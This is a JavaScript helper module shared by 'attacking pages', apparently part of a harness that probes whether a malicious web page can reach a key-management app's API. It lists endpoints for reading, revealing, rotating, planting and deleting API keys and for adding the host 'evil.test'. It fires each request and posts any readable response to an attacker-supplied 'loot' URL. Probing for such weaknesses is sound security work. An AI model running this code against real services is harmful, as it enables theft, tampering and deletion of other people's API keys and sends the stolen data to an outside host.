// Shared by all attacking pages: the target, the attempts, and where to report what could be read.
const parameters = new URLSearchParams(location.search);
export const target = parameters.get('target');
const loot = parameters.get('loot');
export const key = parameters.get('key');
const upstream = parameters.get('upstream');

export const report = (text) => fetch(loot, { method: 'POST', mode: 'no-cors', body: String(text) });
export const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const newKey = { providerId: 1, name: 'planted', apiKey: 'planted-by-a-page' };

/** Every way to read a key, change a key, or make a call with one. */
export const reads = [
  '/api/keys',
  `/api/keys/${key}`,
  '/trpc/keys.list?input=%7B%7D',
  '/api/openapi.json',
  '/assets/app-1a2b3c.js',
  '/',
];
export const writes = [
  ['POST', `/api/keys/${key}/reveal`, {}],
  ['POST', '/api/keys', newKey],
  ['POST', `/api/keys/${key}/rotate`, { newApiKey: 'rotated-by-a-page' }],
  ['POST', `/api/keys/${key}/hosts`, { host: 'evil.test' }],
  ['POST', '/api/test', { apiKeyId: Number(key), endpoint: upstream, method: 'GET' }],
  ['POST', '/trpc/keys.reveal', { id: Number(key) }],
  ['POST', '/trpc/keys.delete', { id: Number(key) }],
  ['DELETE', `/api/keys/${key}`, undefined],
];

/** Sends a request and reports the response if it can be read. */
export const send = async (path, options) => {
  try {
    const response = await fetch(target + path, options);
    await report(`read ${path} ${response.status} ${await response.text()}`);
  } catch (error) {
    await report(`failed ${path} ${error}`);
  }
};

export const attack = async (steps) => {
  try {
    await steps();
  } catch (error) {
    await report(`failed ${error}`);
  }
  await pause(300);
  await report('done');
};
